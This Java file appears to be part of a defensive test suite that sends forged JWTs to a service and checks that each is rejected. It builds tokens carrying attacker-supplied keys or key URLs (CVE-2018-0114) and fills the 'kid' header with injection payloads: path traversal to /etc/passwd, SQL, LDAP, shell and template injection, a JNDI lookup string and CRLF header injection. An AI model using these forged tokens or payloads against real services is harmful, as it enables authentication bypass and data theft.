package io.github.dropwizardjwt.attack;

import static io.github.dropwizardjwt.attack.Signer.quoted;

import io.github.dropwizardjwt.support.Forge;
import io.github.dropwizardjwt.support.Jwks;
import io.github.dropwizardjwt.support.Members;
import io.github.dropwizardjwt.support.TestKeys;
import java.util.List;
import java.util.function.Consumer;

/** Keys that a token brings, tells where to fetch, or names in a way that does something (RFC 8725 §3.10). */
final class KeyHintAttacks implements Family {
    private static final List<String> INJECTIONS = List.of(
            "",
            " ",
            "../../../../dev/null",
            "/dev/null",
            "/proc/self/environ",
            "..\\\\..\\\\boot.ini",
            "file:///etc/passwd",
            "' OR '1'='1",
            "x' UNION SELECT 'k'--",
            "\\\"; DROP TABLE keys;--",
            "*)(uid=*))(|(uid=*",
            "$(id)",
            "`id`",
            "| id",
            "; id",
            "${jndi:ldap://CANARY/a}",
            "#{7*7}",
            "{{7*7}}",
            "%00",
            "\\u0000",
            "own-now\\u0000",
            "own-now ",
            " own-now",
            "OWN-NOW",
            "own_now",
            "own-no",
            "own-now,own-old",
            "[own-now]",
            "http://CANARY/key",
            "https://CANARY/jwks.json",
            "ldap://CANARY/k",
            "\\r\\nSet-Cookie: a=b",
            "\\u202eown-now",
            "\ud83d\udd11",
            "0",
            "-1",
            "null",
            "true",
            "same-id2",
            "__proto__",
            "constructor",
            "A");

    @Override
    public int minimum() {
        return 340;
    }

    @Override
    public void attack(Services services, Consumer<Attack> sender) {
        Tokens tokens = new Tokens(sender);
        for (Signer signer : services.signers()) {
            keysOfTheAttacker(signer, services.canary, tokens);
            keyIds(signer, services.canary, tokens);
        }
    }

    /** CVE-2018-0114: the token brings the key that it is signed with, or says where it lies. */
    private static void keysOfTheAttacker(Signer signer, Canary canary, Tokens tokens) {
        String rsa = Jwks.jwk(TestKeys.publicKey("rsa-2048-other"), "\"alg\":\"RS256\"", "\"kid\":\"evil\"");
        String url = quoted("http://" + canary.address() + "/jwks");
        List<Members> headers = List.of(
                signer.header().with("jwk", rsa),
                signer.header().with("jku", url),
                signer.header().with("x5u", url),
                signer.header().with("x5c", "[\"MIIB\"]"),
                signer.header().with("jwk", "{\"kty\":\"oct\",\"k\":\"AAAA\"}"));
        for (Members header : headers) {
            for (String kid : List.of(quoted(signer.keyId()), quoted("evil"))) {
                String text =
                        header.with("kid", kid).with("alg", quoted("RS256")).json();
                String input = Forge.base64(Forge.utf8(text)) + "."
                        + Forge.base64(Forge.utf8(signer.claims().json()));
                byte[] forged = Forge.sign("SHA256withRSA", TestKeys.privateKey("rsa-2048-other"), input);
                tokens.rejected(signer + " brings a key", signer.service(), input + "." + Forge.base64(forged));
            }
        }
    }

    private static void keyIds(Signer signer, Canary canary, Tokens tokens) {
        for (String kid : INJECTIONS) {
            String value = kid.replace("CANARY", canary.address());
            send(signer, "kid " + value, signer.header().with("kid", quoted(value)), tokens);
        }
        for (int length : new int[] {255, 256, 257, 1000, 3000}) {
            send(signer, "kid of " + length, signer.header().with("kid", quoted("k".repeat(length))), tokens);
        }
    }

    private static void send(Signer signer, String name, Members header, Tokens tokens) {
        tokens.rejected(signer + " " + name, signer.service(), signer.token(header, signer.claims()));
    }
}
